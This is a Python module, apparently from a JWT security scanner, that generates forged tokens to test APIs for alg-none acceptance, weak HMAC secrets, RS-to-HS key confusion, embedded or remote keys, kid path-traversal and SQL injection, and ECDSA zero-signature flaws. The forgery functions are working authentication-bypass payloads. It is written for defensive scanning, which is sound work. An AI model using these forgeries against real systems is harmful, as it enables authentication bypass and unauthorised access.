"""Reading and forging JWTs for attacks. Sans-I/O: bytes in, strings out.

This module holds sharp tools on purpose (it signs tokens with guessed secrets and attacker keys):
it is private to the scanner and never used to verify anything. Reading a token here never means
trusting it, hence :func:`decode_unverified`.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from importlib import resources
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

__all__ = [
    "Forgery",
    "alg_none_variants",
    "b64url_decode",
    "b64url_encode",
    "claim_forgeries",
    "decode_unverified",
    "ec_jwk",
    "ecdsa_zero_signature",
    "embedded_jwk",
    "guess_hmac_secret",
    "jwk_to_pem",
    "key_confusion",
    "key_url_headers",
    "kid_injection",
    "load_wordlist",
    "resign",
    "sign_hmac",
    "tampered",
]

_HMAC = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
#: A host under the RFC 2606 ``.invalid`` TLD can never resolve: a jku/x5u probe leaves no traffic.
ATTACKER_URL = "https://tokenveil-scanner.invalid/.well-known/jwks.json"
ATTACKER_KID = "tokenveil-scanner"


@dataclass(frozen=True, slots=True)
class Forgery:
    """A forged token and the attack it stands for (``variant``). ``repr`` hides the token."""

    attack: str
    variant: str
    token: str

    def __repr__(self) -> str:
        return f"Forgery({self.attack}:{self.variant}, {len(self.token)} chars)"


def b64url_encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _json_segment(obj: Mapping[str, Any]) -> str:
    return b64url_encode(json.dumps(obj, separators=(",", ":")).encode())


def decode_unverified(token: str) -> tuple[dict[str, Any], dict[str, Any]] | None:
    """Header and claims of a compact JWS, WITHOUT checking anything; None when not a JWT."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header = json.loads(b64url_decode(parts[0]))
        claims = json.loads(b64url_decode(parts[1]))
    except (ValueError, UnicodeDecodeError):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict) or "alg" not in header:
        return None
    return header, claims


def sign_hmac(header: Mapping[str, Any], claims: Mapping[str, Any], key: bytes) -> str:
    """A compact JWS signed with HMAC; the hash follows ``header['alg']`` (HS256 by default)."""
    digest = _HMAC.get(str(header.get("alg", "HS256")), hashlib.sha256)
    signing_input = f"{_json_segment(header)}.{_json_segment(claims)}"
    sig = hmac.new(key, signing_input.encode("ascii"), digest).digest()
    return f"{signing_input}.{b64url_encode(sig)}"


def load_wordlist() -> list[bytes]:
    """The bundled list of guessable HMAC secrets (comments and blank lines skipped)."""
    text = resources.files("tokenveil.scan").joinpath("_data/jwt_secrets.txt").read_text("utf-8")
    return [
        line.strip().encode()
        for line in text.splitlines()
        if line.strip() and not line.startswith("#")
    ]


def guess_hmac_secret(token: str, wordlist: Iterable[bytes]) -> bytes | None:
    """The wordlist entry that signed ``token``, if any (only for HS256/384/512 tokens)."""
    decoded = decode_unverified(token)
    if decoded is None:
        return None
    digest = _HMAC.get(str(decoded[0].get("alg")))
    if digest is None:
        return None
    signing_input, _, sig_text = token.rpartition(".")
    try:
        signature = b64url_decode(sig_text)
    except ValueError:
        return None
    for word in wordlist:
        candidate = hmac.new(word, signing_input.encode("ascii"), digest).digest()
        if hmac.compare_digest(candidate, signature):
            return word
    return None


def resign(
    token: str,
    secret: bytes,
    *,
    header: Mapping[str, Any] | None = None,
    claims: Mapping[str, Any] | None = None,
) -> str:
    """``token`` with header/claims fields overridden, signed again with the known HMAC secret."""
    decoded = decode_unverified(token)
    if decoded is None:
        raise ValueError("not a JWT")
    new_header = {**decoded[0], **(header or {})}
    new_claims = {**decoded[1], **(claims or {})}
    return sign_hmac(new_header, new_claims, secret)


def claim_forgeries(token: str, secret: bytes, *, now: int) -> list[Forgery]:
    """With the HMAC secret known, one claim broken at a time, validly signed: expired an hour
    ago (RFC 7519 §4.1.4), another audience (§4.1.3), another issuer (§4.1.1)."""
    elsewhere = "https://tokenveil-scanner.invalid/"
    expired = {"iat": now - 7200, "nbf": now - 7200, "exp": now - 3600}
    return [
        Forgery("expired", "resigned", resign(token, secret, claims=expired)),
        Forgery("claims", "aud", resign(token, secret, claims={"aud": elsewhere + "other-api"})),
        Forgery("claims", "iss", resign(token, secret, claims={"iss": elsewhere})),
    ]


def tampered(token: str) -> list[Forgery]:
    """Tokens whose signature no longer matches: the CVE-class 'signature never checked' probe."""
    decoded = decode_unverified(token)
    if decoded is None:
        return []
    head, payload, sig = token.split(".")
    sig_bytes = b64url_decode(sig) or b"\x00"
    flipped = bytes([sig_bytes[0] ^ 0x01]) + sig_bytes[1:]
    changed_claims = {**decoded[1], "tv_probe": "tampered"}
    return [
        Forgery("tampered", "signature-flipped", f"{head}.{payload}.{b64url_encode(flipped)}"),
        Forgery("tampered", "payload-changed", f"{head}.{_json_segment(changed_claims)}.{sig}"),
        Forgery("tampered", "signature-stripped", f"{head}.{payload}."),
    ]


def alg_none_variants(token: str) -> list[Forgery]:
    """RFC 8725 §2.1: unsigned tokens in the spellings that slipped past case-sensitive checks."""
    decoded = decode_unverified(token)
    if decoded is None:
        return []
    header, claims = decoded
    out = []
    for spelling in ("none", "None", "NONE", "nOnE"):
        forged_header = {**header, "alg": spelling}
        out.append(
            Forgery(
                "alg-none", spelling, f"{_json_segment(forged_header)}.{_json_segment(claims)}."
            )
        )
    return out


def jwk_to_pem(jwk: Mapping[str, Any]) -> bytes | None:
    """The SubjectPublicKeyInfo PEM of an RSA or EC public JWK (what key-confusion signs with)."""
    try:
        if jwk.get("kty") == "RSA":
            n = int.from_bytes(b64url_decode(str(jwk["n"])), "big")
            e = int.from_bytes(b64url_decode(str(jwk["e"])), "big")
            public: rsa.RSAPublicKey | ec.EllipticCurvePublicKey = rsa.RSAPublicNumbers(
                e, n
            ).public_key()
        elif jwk.get("kty") == "EC":
            curve = {"P-256": ec.SECP256R1(), "P-384": ec.SECP384R1(), "P-521": ec.SECP521R1()}[
                str(jwk["crv"])
            ]
            x = int.from_bytes(b64url_decode(str(jwk["x"])), "big")
            y = int.from_bytes(b64url_decode(str(jwk["y"])), "big")
            public = ec.EllipticCurvePublicNumbers(x, y, curve).public_key()
        else:
            return None
    except (KeyError, ValueError):
        return None
    return public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def key_confusion(token: str, jwks: Mapping[str, Any] | None) -> list[Forgery]:
    """HS256 tokens signed with each published public key's PEM (the classic RS→HS confusion)."""
    decoded = decode_unverified(token)
    if decoded is None or not jwks:
        return []
    header, claims = decoded
    out = []
    keys = jwks.get("keys", [])
    for jwk in keys if isinstance(keys, list) else []:
        if not isinstance(jwk, dict):
            continue
        pem = jwk_to_pem(jwk)
        if pem is None:
            continue
        forged_header = {**header, "alg": "HS256"}
        if "kid" in jwk:
            forged_header["kid"] = jwk["kid"]
        kid = str(jwk.get("kid", jwk.get("kty")))
        out.append(Forgery("key-confusion", f"{kid}:pem", sign_hmac(forged_header, claims, pem)))
        # Some libraries strip the trailing newline before using the PEM as an HMAC key.
        out.append(
            Forgery(
                "key-confusion",
                f"{kid}:pem-stripped",
                sign_hmac(forged_header, claims, pem.strip()),
            )
        )
    return out


def ec_jwk(public: ec.EllipticCurvePublicKey, kid: str) -> dict[str, str]:
    numbers = public.public_numbers()
    return {
        "kty": "EC",
        "crv": "P-256",
        "x": b64url_encode(numbers.x.to_bytes(32, "big")),
        "y": b64url_encode(numbers.y.to_bytes(32, "big")),
        "kid": kid,
    }


def _sign_es256(
    header: Mapping[str, Any], claims: Mapping[str, Any], key: ec.EllipticCurvePrivateKey
) -> str:
    signing_input = f"{_json_segment(header)}.{_json_segment(claims)}"
    der = key.sign(signing_input.encode("ascii"), ec.ECDSA(hashes.SHA256()))
    r, s = decode_dss_signature(der)
    return f"{signing_input}.{b64url_encode(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def embedded_jwk(token: str, attacker_key: ec.EllipticCurvePrivateKey) -> list[Forgery]:
    """CVE-2018-0114 class: the token carries its own (attacker) public key in ``jwk``."""
    decoded = decode_unverified(token)
    if decoded is None:
        return []
    header, claims = decoded
    jwk = ec_jwk(attacker_key.public_key(), ATTACKER_KID)
    forged = {**header, "alg": "ES256", "kid": ATTACKER_KID, "jwk": jwk}
    return [Forgery("embedded-jwk", "ES256", _sign_es256(forged, claims, attacker_key))]


def key_url_headers(
    token: str,
    attacker_key: ec.EllipticCurvePrivateKey,
    jku: str = ATTACKER_URL,
    x5u: str = ATTACKER_URL,
) -> list[Forgery]:
    """``jku`` and ``x5u`` pointing at a URL the API owner does not control (RFC 8725 §3.10)."""
    decoded = decode_unverified(token)
    if decoded is None:
        return []
    header, claims = decoded
    out = []
    for name, url in (("jku", jku), ("x5u", x5u)):
        forged = {**header, "alg": "ES256", "kid": ATTACKER_KID, name: url}
        out.append(Forgery("key-url", name, _sign_es256(forged, claims, attacker_key)))
    return out


def kid_injection(token: str) -> list[Forgery]:
    """``kid`` used as a file path or SQL fragment: point it at a known (empty) key."""
    decoded = decode_unverified(token)
    if decoded is None:
        return []
    header, claims = decoded
    traversal = {**header, "alg": "HS256", "kid": "../../../../../../../../dev/null"}
    marker = "tokenveil-kid-probe"
    sql = {**header, "alg": "HS256", "kid": f"x' UNION SELECT '{marker}' -- "}
    return [
        # /dev/null reads as empty: the HMAC key becomes b"".
        Forgery("kid-injection", "path-traversal", sign_hmac(traversal, claims, b"")),
        Forgery("kid-injection", "sql", sign_hmac(sql, claims, marker.encode())),
    ]


def ecdsa_zero_signature(token: str) -> list[Forgery]:
    """CVE-2022-21449 ("psychic signatures"): r = s = 0 verified as valid by broken ECDSA code."""
    decoded = decode_unverified(token)
    if decoded is None:
        return []
    header, claims = decoded
    out = []
    for alg, size in (("ES256", 32), ("ES384", 48), ("ES512", 66)):
        forged = {**header, "alg": alg}
        zero = b64url_encode(b"\x00" * (2 * size))
        out.append(
            Forgery("ecdsa-zero", alg, f"{_json_segment(forged)}.{_json_segment(claims)}.{zero}")
        )
    return out
